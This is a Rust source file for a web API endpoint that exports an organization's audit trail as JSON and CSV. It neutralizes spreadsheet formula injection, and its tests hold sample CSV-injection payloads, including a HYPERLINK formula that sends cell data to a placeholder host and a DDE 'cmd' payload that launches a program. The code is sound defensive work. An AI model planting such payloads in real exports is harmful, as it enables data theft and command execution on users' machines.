//! `/activity/json` and `/activity/csv`: the organization's audit trail, newest first.
//!
//! The CSV is written here, not with the `csv` crate: besides RFC 4180 quoting, a cell
//! holding `;` must be quoted too (spreadsheets of many locales split on it, which could
//! let part of a cell start a formula), and the `csv` crate quotes only for its own
//! delimiter, quote and line breaks (or always, or by type). The writer is the two short
//! functions below; the formula defusing sits in front of either.

use axum::extract::State;
use axum::http::{header, HeaderValue};
use axum::response::{IntoResponse, Response};
use axum::Json;
use serde::Serialize;
use utoipa::{PartialSchema, ToSchema};
use utoipa_axum::router::OpenApiRouter;
use utoipa_axum::routes;

use super::error::ApiResult;
use super::extract::Caller;
use super::schema::{string_enum, tags};
use super::AppState;
use crate::domain::audit::{AuditEntry, AuditType};
use crate::domain::scope::Scope;

/// The newest records returned; the API has no paging, so this bounds a response.
pub const MAX_EVENTS: i64 = 10_000;

pub fn routes() -> OpenApiRouter<AppState> {
    OpenApiRouter::new()
        .routes(routes!(activity_json))
        .routes(routes!(activity_csv))
}

/// `c`reate, `r`ead, `u`pdate or `d`elete.
struct AuditTypeSchema;

impl PartialSchema for AuditTypeSchema {
    fn schema() -> utoipa::openapi::RefOr<utoipa::openapi::Schema> {
        string_enum(
            "`c`reate, `r`ead, `u`pdate or `d`elete",
            AuditType::ALL.iter().map(|v| v.code()),
        )
    }
}

/// `AuditDto` of the API document; absent optional fields are left out.
#[derive(Debug, Serialize, ToSchema)]
#[serde(rename_all = "camelCase")]
pub struct AuditDto {
    pub service: String,
    pub org_id: String,
    /// Milliseconds since the Unix epoch.
    pub timestamp: i64,
    pub audit: String,
    #[schema(schema_with = AuditTypeSchema::schema)]
    pub audit_type: &'static str,
    pub entity: String,
    pub entity_id: String,
    pub user_id: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    pub parent_entity: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    pub parent_entity_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    pub entity_attribute: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    pub entity_attribute_value_from: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    #[schema(nullable = false)]
    pub entity_attribute_value_to: Option<String>,
}

impl From<AuditEntry> for AuditDto {
    fn from(e: AuditEntry) -> Self {
        AuditDto {
            service: e.service,
            org_id: e.org_id,
            timestamp: e.timestamp.millis(),
            audit: e.audit,
            audit_type: e.audit_type.code(),
            entity: e.entity,
            entity_id: e.entity_id,
            user_id: e.user_id,
            parent_entity: e.parent_entity,
            parent_entity_id: e.parent_entity_id,
            entity_attribute: e.entity_attribute,
            entity_attribute_value_from: e.value_from,
            entity_attribute_value_to: e.value_to,
        }
    }
}

/// The CSV header: the `AuditDto` field names, in the order of [`csv_row`].
const CSV_HEADER: [&str; 13] = [
    "service",
    "orgId",
    "timestamp",
    "audit",
    "auditType",
    "entity",
    "entityId",
    "userId",
    "parentEntity",
    "parentEntityId",
    "entityAttribute",
    "entityAttributeValueFrom",
    "entityAttributeValueTo",
];

fn csv_row(e: &AuditDto) -> [String; 13] {
    let text = |v: &str| defuse_formula(v);
    let optional = |v: &Option<String>| v.as_deref().map(defuse_formula).unwrap_or_default();
    [
        text(&e.service),
        text(&e.org_id),
        // A number we format: it cannot carry a formula, and stays a number for
        // spreadsheets (a leading `'` would make it text).
        e.timestamp.to_string(),
        text(&e.audit),
        text(e.audit_type),
        text(&e.entity),
        text(&e.entity_id),
        text(&e.user_id),
        optional(&e.parent_entity),
        optional(&e.parent_entity_id),
        optional(&e.entity_attribute),
        optional(&e.entity_attribute_value_from),
        optional(&e.entity_attribute_value_to),
    ]
}

/// A text cell as a spreadsheet must read it. Names, descriptions, emails and secret names
/// are chosen by API clients, and Excel, LibreOffice and Google Sheets run a cell that
/// starts with `=`, `+`, `-` or `@` (or with a tab or carriage return before one) as a
/// formula: `=HYPERLINK(...)` sends data elsewhere, `=cmd|...` starts programs. As OWASP's
/// CSV injection guidance says, such a cell gets a leading `'`, which spreadsheets show
/// as text and do not evaluate. Other cells are left exactly as they are.
fn defuse_formula(field: &str) -> String {
    if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{field}")
    } else {
        field.to_string()
    }
}

/// RFC 4180: a field with a comma, quote or line break is quoted, quotes doubled. So is
/// one with a semicolon, which spreadsheets of many locales read as the separator: a
/// cell could otherwise split into one that starts with a formula.
fn csv_field(out: &mut String, field: &str) {
    if field.contains([',', '"', '\r', '\n', ';']) {
        out.push('"');
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

fn csv_line<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        csv_field(out, field.as_ref());
    }
    out.push_str("\r\n");
}

pub fn to_csv(events: &[AuditDto]) -> String {
    let mut out = String::new();
    csv_line(&mut out, &CSV_HEADER);
    for event in events {
        csv_line(&mut out, &csv_row(event));
    }
    out
}

async fn events(state: &AppState, caller: &Caller) -> ApiResult<Vec<AuditDto>> {
    caller.require(Scope::GetActivity)?;
    let entries = state
        .store
        .audit_events(caller.org_id(), MAX_EVENTS)
        .await?;
    Ok(entries.into_iter().map(AuditDto::from).collect())
}

/// Get the organization's activity (audit trail), newest first, at most 10,000 events.
#[utoipa::path(
    get,
    path = "/activity/json",
    operation_id = "GetJson",
    tag = tags::ACTIVITY,
    security(("bearer" = ["get:activity"])),
    responses(
        (status = 200, description = "All activity events as JSON.", body = Vec<AuditDto>),
        (status = 403, description = "The token lacks the scope get:activity"),
    ),
)]
async fn activity_json(
    State(state): State<AppState>,
    caller: Caller,
) -> ApiResult<Json<Vec<AuditDto>>> {
    Ok(Json(events(&state, &caller).await?))
}

/// Get the organization's activity as CSV.
///
/// RFC 4180, with a header row of the `AuditDto` field names. A text cell that a
/// spreadsheet would run as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return) starts with a `'`; the JSON activity shows the values as they are.
#[utoipa::path(
    get,
    path = "/activity/csv",
    operation_id = "GetCsv",
    tag = tags::ACTIVITY,
    security(("bearer" = ["get:activity"])),
    responses(
        (status = 200, description = "All activity events as CSV.", content_type = "text/csv", body = String),
        (status = 403, description = "The token lacks the scope get:activity"),
    ),
)]
async fn activity_csv(State(state): State<AppState>, caller: Caller) -> ApiResult<Response> {
    let csv = to_csv(&events(&state, &caller).await?);
    let mut response = csv.into_response();
    response.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    Ok(response)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_are_quoted_when_needed() {
        let event = AuditDto {
            service: "console".into(),
            org_id: "o".into(),
            timestamp: 1700000000123,
            audit: "Created cluster \"a, b\"\nnext".into(),
            audit_type: "c",
            entity: "cluster".into(),
            entity_id: "c1".into(),
            user_id: "u".into(),
            parent_entity: None,
            parent_entity_id: None,
            entity_attribute: Some("roles".into()),
            entity_attribute_value_from: Some("admin,developer".into()),
            entity_attribute_value_to: None,
        };
        let csv = to_csv(&[event]);
        let mut lines = csv.split("\r\n");
        assert!(lines
            .next()
            .unwrap()
            .starts_with("service,orgId,timestamp,audit,"));
        assert_eq!(
            lines.next().unwrap(),
            "console,o,1700000000123,\"Created cluster \"\"a, b\"\"\nnext\",c,cluster,c1,u,,,roles,\"admin,developer\","
        );
    }

    fn event_with(value_to: &str, timestamp: i64) -> AuditDto {
        AuditDto {
            service: "console".into(),
            org_id: "o".into(),
            timestamp,
            audit: "Updated cluster".into(),
            audit_type: "u",
            entity: "cluster".into(),
            entity_id: "c1".into(),
            user_id: "u".into(),
            parent_entity: None,
            parent_entity_id: None,
            entity_attribute: Some("name".into()),
            entity_attribute_value_from: Some("plain -dash= @at".into()),
            entity_attribute_value_to: Some(value_to.into()),
        }
    }

    #[test]
    fn cells_a_spreadsheet_would_run_get_a_leading_quote() {
        let cases = [
            (
                r#"=HYPERLINK("http://x/?"&A1,"c")"#,
                r#""'=HYPERLINK(""http://x/?""&A1,""c"")""#,
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "\"'\r=1\""),
            ("a;=1", "\"a;=1\""),
            ("'=1", "'=1"),
            ("x=1", "x=1"),
        ];
        for (value, cell) in cases {
            let csv = to_csv(&[event_with(value, 5)]);
            let row = csv.split("\r\n").nth(1).unwrap();
            assert_eq!(
                row,
                format!(
                    "console,o,5,Updated cluster,u,cluster,c1,u,,,name,plain -dash= @at,{cell}"
                ),
                "{value:?}"
            );
        }
    }

    #[test]
    fn a_negative_timestamp_stays_a_number() {
        let csv = to_csv(&[event_with("x", -5)]);
        assert!(csv.contains(",-5,Updated cluster,"), "{csv}");
    }
}
